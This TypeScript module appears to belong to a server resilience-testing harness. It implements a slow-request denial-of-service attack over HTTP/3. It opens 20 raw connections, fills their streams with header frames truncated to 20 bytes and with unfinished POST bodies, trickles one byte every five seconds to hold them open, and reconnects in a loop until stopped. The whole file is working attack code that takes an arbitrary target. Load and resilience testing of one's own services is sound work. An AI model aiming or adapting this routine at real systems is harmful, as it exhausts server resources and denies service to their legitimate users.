import { setTimeout as sleep } from "node:timers/promises";
import type { Attack } from "../../attack.ts";
import { get, headersFrame, post } from "../../clients/http3-frames.ts";
import { RawHttp3 } from "../../clients/raw-http3.ts";

/** A source of its own, as other attacks may hold the share of theirs. */
const from = "127.0.0.22";

const connections = 20;
/** Pause between two bytes, in ms. */
const pauseMs = 5000;

/** Unfinished header fields and bodies, each on half of a connection's streams. The bodies get a byte now and then. */
export const slowRequests: Attack = {
  name: "slow headers and bodies",
  unit: "requests",
  async run(target, signal, tally) {
    await Promise.all(
      Array.from({ length: connections }, async () => {
        while (!signal.aborted) {
          const client = await RawHttp3.open(target, { from });
          const bodies: number[] = [];
          for (; client.hasRoom && !signal.aborted; tally()) {
            client.stream(headersFrame(get("/", target)).subarray(0, 20), false);
            if (client.hasRoom) bodies.push(client.request(post("/v1/mailbox/x", target), false));
          }
          while (!client.isClosed && !signal.aborted) {
            for (const id of bodies) client.send(id, Buffer.from("x"));
            await sleep(pauseMs, undefined, { signal }).catch(() => undefined);
          }
          client.close();
        }
      }),
    );
  },
};
